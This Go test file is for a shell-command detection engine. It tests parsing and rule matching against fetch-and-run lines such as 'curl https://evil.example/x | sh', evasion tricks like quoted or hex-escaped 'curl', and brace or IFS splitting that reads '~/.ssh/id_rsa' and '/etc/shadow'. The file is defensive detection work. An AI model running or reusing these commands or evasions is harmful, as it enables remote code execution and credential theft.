package cmdrule

import (
	"bufio"
	"encoding/json"
	"os"
	"slices"
	"strings"
	"testing"
)

// allow is the egress allowlist the corpus is labelled against.
var allow = EvalContext{AllowedHosts: []string{"github.com", "githubusercontent.com", "registry.npmjs.org", "pypi.org"}}

type corpusCase struct {
	Cmd  string   `json:"cmd"`
	Want []string `json:"want"`
	// Source names where the case comes from (a Sigma rule, GTFOBins,
	// atomic-red-team, Falco) or "hard negative: ..." for everyday
	// commands that must stay quiet.
	Source string `json:"source"`
}

func loadCorpus(t testing.TB) []corpusCase {
	t.Helper()
	f, err := os.Open("testdata/corpus.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out []corpusCase
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 1<<20)
	for n := 1; sc.Scan(); n++ {
		if strings.TrimSpace(sc.Text()) == "" {
			continue
		}
		var c corpusCase
		if err := json.Unmarshal(sc.Bytes(), &c); err != nil {
			t.Fatalf("corpus line %d: %v", n, err)
		}
		out = append(out, c)
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

func ids(ms []Match) []string {
	var out []string
	for _, m := range ms {
		if !slices.Contains(out, m.Rule) {
			out = append(out, m.Rule)
		}
	}
	slices.Sort(out)
	return out
}

func TestCorpus(t *testing.T) {
	e, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	known := map[string]bool{}
	for _, r := range e.Rules() {
		known[r.ID] = true
	}
	fired := map[string]bool{}
	for _, c := range loadCorpus(t) {
		want := slices.Clone(c.Want)
		slices.Sort(want)
		for _, id := range want {
			if !known[id] {
				t.Errorf("%q: corpus names unknown rule %q", c.Cmd, id)
			}
		}
		ms := e.Evaluate(c.Cmd, allow)
		got := ids(ms)
		for _, id := range got {
			fired[id] = true
		}
		if !slices.Equal(got, want) {
			var parts []string
			for _, m := range ms {
				parts = append(parts, m.Rule+"@"+m.Part)
			}
			t.Errorf("%s\n\tgot  %v\n\twant %v\n\tmatches %q", c.Cmd, got, want, parts)
		}
	}
	for id := range known {
		if !fired[id] {
			t.Errorf("rule %q is never exercised by the corpus", id)
		}
	}
}

func TestParseWords(t *testing.T) {
	for _, tc := range []struct {
		in   string
		prog string
		args []string
	}{
		{`c''url -s x`, "curl", []string{"-s", "x"}},
		{`\c\u\r\l x`, "curl", []string{"x"}},
		{`"cu"rl "a\"b"`, "curl", []string{`a"b`}},
		{`$'\x63url' $'a\tb'`, "curl", []string{"a\tb"}},
		{`p=/usr/bin/wget; $p x`, "wget", []string{"x"}},
		{`sudo -u root env A=1 nohup timeout 5 curl x`, "curl", []string{"x"}},
	} {
		cmd, err := Parse(tc.in)
		if err != nil {
			t.Fatal(err)
		}
		var c *Call
		for _, k := range cmd.Calls {
			if k.Program != "" {
				c = k
			}
		}
		if c == nil || c.Program != tc.prog || !slices.Equal(c.Args, tc.args) {
			t.Errorf("Parse(%q) = %+v, want %s %q", tc.in, c, tc.prog, tc.args)
		}
	}
}

func TestParseStructure(t *testing.T) {
	cmd, err := Parse(`curl -s x | tee f | sh; bash -c 'wget y' && echo "$(id)"`)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]*Call{}
	for _, c := range cmd.Calls {
		got[c.Program] = c
	}
	if c := got["curl"]; c == nil || !slices.Contains(c.Feeds, "sh") {
		t.Errorf("curl should feed sh: %+v", c)
	}
	if c := got["wget"]; c == nil || c.Origin != "shell -c" || c.Depth != 1 {
		t.Errorf("wget should come from bash -c: %+v", c)
	}
	if c := got["id"]; c == nil || !slices.Contains(c.Feeds, "echo") {
		t.Errorf("id should feed echo: %+v", c)
	}
	if c := got["echo"]; c == nil || !c.Dynamic {
		t.Errorf("echo should be dynamic: %+v", c)
	}
	if _, err := Parse(`echo "unterminated`); err == nil {
		t.Error("want error for unterminated quote")
	}
}

func TestDepthLimit(t *testing.T) {
	s := "curl https://evil.example/x | sh"
	for range 10 {
		b, _ := json.Marshal(s) // a double-quoted, escaped string
		s = "bash -c " + string(b)
	}
	e, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	if ms := e.Evaluate(s, allow); len(ms) != 0 {
		t.Errorf("nesting beyond maxDepth should not be followed, got %v", ids(ms))
	}
}

func TestNewEngineErrors(t *testing.T) {
	for name, doc := range map[string]string{
		"empty":      `rules: []`,
		"severity":   "rules:\n- {id: a, severity: bad, technique: T1059, match: [{program: [x]}]}",
		"technique":  "rules:\n- {id: a, severity: low, technique: X1, match: [{program: [x]}]}",
		"regexp":     "rules:\n- {id: a, severity: low, technique: T1059, match: [{args: ['(']}]}",
		"duplicate":  "rules:\n- {id: a, severity: low, technique: T1059, match: [{program: [x]}]}\n- {id: a, severity: low, technique: T1059, match: [{program: [x]}]}",
		"unknownref": "rules:\n- {id: a, severity: low, technique: T1059, match: [{decoded_matches: [b]}]}",
		"nocond":     "rules:\n- {id: a, severity: low, technique: T1059, match: [{}]}",
		"typo":       "rules:\n- {id: a, severity: low, technique: T1059, match: [{programs: [x]}]}",
	} {
		if _, err := NewEngine([]byte(doc)); err == nil {
			t.Errorf("%s: want error", name)
		}
	}
}

func TestUnknownHostAllowlist(t *testing.T) {
	e, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	cmd := "curl https://api.example.com/v1"
	if got := ids(e.Evaluate(cmd, EvalContext{})); !slices.Equal(got, []string{"download-unknown-host"}) {
		t.Errorf("no allowlist: got %v", got)
	}
	if got := e.Evaluate(cmd, EvalContext{AllowedHosts: []string{"*.example.com"}}); len(got) != 0 {
		t.Errorf("allowlisted: got %v", ids(got))
	}
}

func BenchmarkEvaluate(b *testing.B) {
	e, err := Default()
	if err != nil {
		b.Fatal(err)
	}
	corpus := loadCorpus(b)
	b.ResetTimer()
	n := 0
	cpu0 := cpuTime()
	for b.Loop() {
		for _, c := range corpus {
			e.Evaluate(c.Cmd, allow)
		}
		n += len(corpus)
	}
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "events/s")
	// On a shared machine wall time includes waiting for a core; the
	// rate per CPU-second is what one core sustains.
	if cpu := cpuTime() - cpu0; cpu > 0 {
		b.ReportMetric(float64(n)/cpu.Seconds(), "events/cpu-s")
	}
}

func TestFeedsOnlyCodeReaders(t *testing.T) {
	for _, tc := range []struct {
		line string
		want bool // curl's output reaches the last stage as code
	}{
		{"curl x | python3", true},
		{"curl x | python3 -", true},
		{"curl x | python3 -u -", true},
		{"curl x | python3 /dev/stdin", true},
		{"curl x | python3 -m json.tool", false},
		{"curl x | python3 -W ignore tool.py", false},
		{"curl x | python3 -c 'import sys,json; print(json.load(sys.stdin))'", false},
		{"curl x | python3 -c 'import sys; exec(sys.stdin.read())'", true},
		{"curl x | perl -ne 'print if /a/'", false},
		{"curl x | perl -e 'eval join q(), <STDIN>'", true},
		{"curl x | perl -MMIME::Base64 -ne 'print decode_base64($_)'", false},
		{"curl x | ruby -rjson -e 'puts JSON.parse(STDIN.read)'", false},
		{"curl x | node app.js", false},
		{"curl x | node", true},
		{"curl x | php", true},
		{"curl x | bash", true},
		{"curl x | bash -s -- -y", true},
		{"curl x | sh -o pipefail", true},
		{"curl x | bash install.sh", false},
		{"curl x | bash -c 'cat > f'", true}, // -c scripts keep counting
		{"curl x | sudo -E bash -", true},
		{"curl x | sh -x", true},
	} {
		cmd, err := Parse(tc.line)
		if err != nil {
			t.Fatal(err)
		}
		last := strings.Fields(tc.line[strings.LastIndex(tc.line, "|")+1:])
		prog := last[0]
		if prog == "sudo" {
			prog = "bash"
		}
		got := slices.Contains(cmd.Calls[0].Feeds, prog)
		if cmd.Calls[0].Program != "curl" || got != tc.want {
			t.Errorf("%s: curl feeds %q = %v, want %v", tc.line, cmd.Calls[0].Feeds, got, tc.want)
		}
	}
}

func TestParseSplitsBracesAndIFS(t *testing.T) {
	for _, tc := range []struct {
		in   string
		prog string
		args []string
	}{
		{`{cat,~/.ssh/id_rsa}`, "cat", []string{"~/.ssh/id_rsa"}},
		{`cat${IFS}/etc/shadow`, "cat", []string{"/etc/shadow"}},
		{`cat$IFS/etc/shadow`, "cat", []string{"/etc/shadow"}},
		{`echo "a${IFS}b"`, "echo", []string{"a b"}},
		{`IFS=x; cat${IFS}f`, "catxf", []string{}}, // a set IFS is a plain variable
		{`echo {1..100}{1..100}`, "echo", nil},     // bounded, not 10,000 words
	} {
		cmd, err := Parse(tc.in)
		if err != nil {
			t.Fatal(err)
		}
		c := cmd.Calls[len(cmd.Calls)-1]
		if tc.args == nil {
			if tc.prog == "echo" && len(c.Args) > maxBraceWords {
				t.Errorf("%s: %d words", tc.in, len(c.Args))
			}
			continue
		}
		if c.Program != tc.prog || !slices.Equal(c.Args, tc.args) {
			t.Errorf("Parse(%q) = %s %q, want %s %q", tc.in, c.Program, c.Args, tc.prog, tc.args)
		}
	}
}
